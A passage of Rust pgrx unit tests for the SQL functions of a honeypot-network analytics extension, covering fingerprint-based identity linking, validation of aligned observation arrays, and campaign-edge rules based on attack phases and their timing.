            "SELECT string_agg(tier || ':' || kind || '=' || value, ' ' ORDER BY tier, kind, value)
             FROM decnet.identity_link_reasons({hassh}, {hassh})"
        )),
        Some("high:hassh=h1".into())
    );
}

/// Issue 19: parallel attributes of a typed observation must line up.
#[pg_test(error = "decnet.identity_observation: command_phases has 2 elements but commands has 1")]
fn identity_observation_refuses_unaligned_commands() {
    one::<i64>(
        "SELECT count(*) FROM decnet.identity_link_reasons(
            ROW('{}', '{}', '{}', ARRAY['discovery', 'other'], ARRAY['id'], '{}', '{}', NULL, NULL)::decnet.identity_observation,
            ROW('{}', '{}', '{}', '{}', '{}', '{}', '{}', NULL, NULL)::decnet.identity_observation)",
    );
}

/// Issue 19: campaign features are typed too. A hand-off (C2 on a decky, then
/// discovery there by another identity within a day) is a campaign edge; the
/// same phases two days apart are not.
#[pg_test]
fn campaign_rules_read_typed_features() {
    let features = |first: &str, first_t: f64, last: &str, last_t: f64| {
        format!(
            "ROW(ARRAY['d1'], ARRAY['{first}'], ARRAY[{first_t}]::float8[], ARRAY['{last}'], ARRAY[{last_t}]::float8[],
                 '{{}}', '{{}}', '{{}}', '{{}}', NULL)::decnet.campaign_features"
        )
    };
    let edges = |b: &str| {
        one::<i64>(&format!(
            "SELECT count(*) FROM decnet.campaign_edge_pairs(ARRAY['i1'], ARRAY['i2'], ARRAY['i1', 'i2'],
                    ARRAY[{}, {b}]::decnet.campaign_features[])",
            features("discovery", 1000.0, "command_and_control", 2000.0)
        ))
    };
    assert_eq!(edges(&features("discovery", 3000.0, "discovery", 3500.0)), Some(1));
    assert_eq!(edges(&features("discovery", 2000.0 + 2.0 * 86_400.0, "discovery", 3.0e5)), Some(0));
}
